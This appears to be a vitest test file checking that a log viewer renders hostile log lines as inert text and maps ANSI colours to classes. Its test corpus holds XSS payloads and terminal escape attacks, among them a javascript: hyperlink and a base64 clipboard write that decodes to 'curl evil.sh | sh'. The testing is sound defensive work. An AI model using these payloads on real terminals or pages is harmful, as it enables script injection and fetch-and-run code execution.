/**
 * Log lines rendered by the real row component: colours become classes, and
 * a corpus of hostile payloads (HTML, OSC 0 title, OSC 8 hyperlink, OSC 52
 * clipboard, cursor moves, bells) becomes inert text: no element other than
 * the row's own spans and marks, no attribute taken from the line.
 */
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { keepOnlyColours, plainText, toSegments } from '../../renderer/views/logs/ansi';
import { LogLineRow } from '../../renderer/views/logs/LogLineRow';
import { compileLogPattern, type LogPattern } from '#shared/log-pattern';
import type { LogLine } from '#shared/logs';

const ESC = '\x1b';
const BEL = '\x07';

function render(text: string, highlight: LogPattern | null = null): string {
  const line: LogLine = { position: 0, line: 0, kind: 'stdout', ts: null, text, cut: 0 };
  return renderToStaticMarkup(createElement(LogLineRow, { line, timestamps: false, streamMarks: false, highlight, current: false }));
}

/** Every tag name in the markup. */
function tags(markup: string): string[] {
  return [...markup.matchAll(/<([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase());
}

const CORPUS: { name: string; text: string; shown: string; absent: string[] }[] = [
  { name: 'img onerror', text: '<img src=x onerror=alert(1)>', shown: '<img src=x onerror=alert(1)>', absent: [] },
  { name: 'script', text: '<script>alert(document.cookie)</script>', shown: '<script>alert(document.cookie)</script>', absent: [] },
  { name: 'html inside colours', text: `${ESC}[31m<b onmouseover=alert(1)>x</b>${ESC}[0m`, shown: '<b onmouseover=alert(1)>x</b>', absent: [] },
  { name: 'OSC 0 title (BEL)', text: `${ESC}]0;owned title${BEL}after`, shown: 'after', absent: ['owned title'] },
  { name: 'OSC 2 title (ST)', text: `${ESC}]2;owned${ESC}\\after`, shown: 'after', absent: ['owned'] },
  {
    name: 'OSC 8 hyperlink',
    text: `${ESC}]8;;javascript:alert(1)${ESC}\\click${ESC}]8;;${ESC}\\ done`,
    shown: 'click done',
    absent: ['javascript', 'href'],
  },
  { name: 'OSC 52 clipboard', text: `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}clip`, shown: 'clip', absent: ['Y3VybCBl', '52;'] },
  { name: 'unterminated OSC', text: `ok ${ESC}]0;never ends`, shown: 'ok ', absent: ['never ends'] },
  { name: '8-bit OSC', text: 'a\x9d0;title\x9cb', shown: 'ab', absent: ['title'] },
  { name: 'cursor moves and erase', text: `a${ESC}[2J${ESC}[10;10Hb${ESC}[Kc`, shown: 'abc', absent: ['[2J', '10H'] },
  { name: 'bell, backspace, carriage return', text: `x${BEL}y\bz\r`, shown: 'xyz', absent: [] },
  { name: 'DCS', text: `${ESC}Pq#0;2;0;0;0${ESC}\\tail`, shown: 'tail', absent: ['#0;2'] },
  { name: 'charset switch', text: `${ESC}(0lqk${ESC}(B`, shown: 'lqk', absent: [] },
];

describe('hostile log text stays text', () => {
  for (const { name, text, shown, absent } of CORPUS) {
    it(name, () => {
      expect(plainText(text)).toBe(shown);
      const markup = render(text);
      // Only the row's own elements.
      expect(new Set(tags(markup))).toEqual(new Set(tags(markup).filter((t) => t === 'div' || t === 'span')));
      expect(markup).not.toMatch(/<(img|script|a|b|iframe|svg|style)\b/i);
      // Attributes are only the row's own (class, style, data-*), whatever the text says.
      const attributes = [...markup.matchAll(/<[a-z]+([^>]*)>/g)].flatMap((m) => [...m[1]!.matchAll(/\s([\w-]+)=/g)].map((a) => a[1]!));
      for (const attribute of attributes) expect(['class', 'style', 'data-line', 'data-position', 'title']).toContain(attribute);
      expect(markup).not.toContain(ESC);
      for (const bit of absent) expect(markup).not.toContain(bit);
    });
  }

  it('escapes HTML as characters', () => {
    expect(render('<img src=x onerror=alert(1)>')).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('a search highlight wraps matches in <mark>, still escaped', () => {
    const markup = render('before <script> after <SCRIPT>', compileLogPattern({ text: '<script>', regex: false, caseSensitive: false }));
    expect(markup).toContain('<mark>&lt;script&gt;</mark>');
    expect(markup).toContain('<mark>&lt;SCRIPT&gt;</mark>');
    expect(tags(markup).filter((t) => t === 'script')).toEqual([]);
  });
});

describe('colours', () => {
  it('named, bright, 256 and true colours, and attributes, as fixed classes or computed rgb()', () => {
    const segments = toSegments(`${ESC}[31mred${ESC}[0m ${ESC}[1;92mbold green${ESC}[0m ${ESC}[38;5;196mpal${ESC}[0m ${ESC}[38;2;1;2;3mtrue${ESC}[0m`);
    expect(segments).toEqual([
      { text: 'red', classes: 'ansi-fg-red' },
      { text: ' ', classes: '' },
      { text: 'bold green', classes: 'ansi-fg-bright-green ansi-bold' },
      { text: ' ', classes: '' },
      { text: 'pal', classes: '', color: 'rgb(255, 0, 0)' },
      { text: ' ', classes: '' },
      { text: 'true', classes: '', color: 'rgb(1, 2, 3)' },
    ]);
  });

  it('leaves plain text alone', () => {
    expect(keepOnlyColours('plain text\twith tab')).toBe('plain text\twith tab');
    expect(toSegments('plain')).toEqual([{ text: 'plain', classes: '' }]);
  });
});
